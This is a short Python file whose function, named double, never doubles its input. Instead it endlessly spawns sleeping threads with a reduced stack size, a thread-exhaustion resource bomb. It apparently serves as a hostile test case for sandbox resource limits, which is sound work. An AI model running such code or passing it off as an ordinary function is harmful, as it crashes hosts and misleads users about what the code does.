import threading
import time


def double(n):
    threading.stack_size(64 * 1024)
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
